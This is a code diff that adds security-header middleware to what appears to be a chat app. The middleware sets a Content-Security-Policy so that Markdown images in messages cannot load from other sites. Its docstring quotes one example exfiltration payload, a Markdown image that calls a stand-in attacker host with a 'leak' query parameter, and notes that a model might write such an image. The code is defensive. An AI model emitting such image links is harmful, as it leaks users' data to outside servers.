@@ -31,3 +31,31 @@ def http_routes(shares: Sharing, host) -> list[APIRoute]:
 
     return [APIRoute("/healthz", healthz, methods=["GET"], include_in_schema=False),
             APIRoute("/s/{token}", shared, methods=["GET"], include_in_schema=False)]
+
+
+APP_CSP = "img-src 'self' data: blob:"  # messages may hold Markdown images: none load from other sites
+
+
+class PageSecurityHeaders:
+    """Adds a Content-Security-Policy to the app's HTML pages (ASGI middleware): an image in a message
+    (`![x](https://evil.example/t.png?leak=1)`, written by a user, a model or a shared chat) is
+    never fetched by the reader's browser. Pages with their own policy (share links) keep theirs."""
+
+    def __init__(self, app):
+        self.app = app
+
+    async def __call__(self, scope, receive, send):
+        if scope.get("type") != "http":
+            return await self.app(scope, receive, send)
+
+        async def send_with_policy(message):
+            if message["type"] == "http.response.start":
+                headers = list(message.get("headers") or [])
+                names = {k.lower() for k, _ in headers}
+                html = any(k.lower() == b"content-type" and v.startswith(b"text/html") for k, v in headers)
+                if html and b"content-security-policy" not in names:
+                    headers.append((b"content-security-policy", APP_CSP.encode()))
+                    message = {**message, "headers": headers}
+            await send(message)
+
+        await self.app(scope, receive, send_with_policy)
